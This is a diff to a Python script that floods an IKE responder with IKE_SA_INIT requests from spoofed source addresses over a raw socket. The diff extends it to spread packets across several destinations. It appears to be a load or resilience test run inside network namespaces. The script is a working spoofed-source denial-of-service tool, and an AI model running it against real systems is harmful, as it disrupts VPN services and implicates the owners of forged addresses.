@@ -1,7 +1,7 @@
 """A flood of IKE_SA_INIT requests from spoofed source addresses, sent as fast as one Python process can on a raw
 socket (IP_HDRINCL: the source is whatever the packet says). Run as a child process in a namespace:
 
-    python3 lib/flood.py DESTINATION SECONDS SOURCE...   (a SOURCE may be a prefix like 198.18.0.0/15)
+    python3 lib/flood.py DESTINATION[,DESTINATION...] SECONDS SOURCE...   (a SOURCE may be a prefix like 198.18.0.0/15)
 
 Every request offers aes256gcm16-prfsha256-x25519 with its own initiator SPI (8,192 prepared, sent in a loop).
 Prints `sent N in S s` at the end."""
@@ -48,17 +48,18 @@ def sources(specs, count):
 
 
 def main():
-    destination, seconds, specs = sys.argv[1], float(sys.argv[2]), sys.argv[3:]
+    destinations, seconds, specs = sys.argv[1].split(","), float(sys.argv[2]), sys.argv[3:]
     template = ike_sa_init()
-    packets = [packet(source, destination, os.urandom(8) + template[8:]) for source in sources(specs, 8192)]
+    packets = [packet(source, destinations[i % len(destinations)], os.urandom(8) + template[8:])
+               for i, source in enumerate(sources(specs, 8192))]
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
-    target = (destination, 0)
+    targets = [(socket.inet_ntoa(p[16:20]), 0) for p in packets]
     sent, start = 0, time.time()
     end = start + seconds
     send = s.sendto
     while True:
-        for p in packets:
+        for p, target in zip(packets, targets):
             try:
                 send(p, target)
                 sent += 1
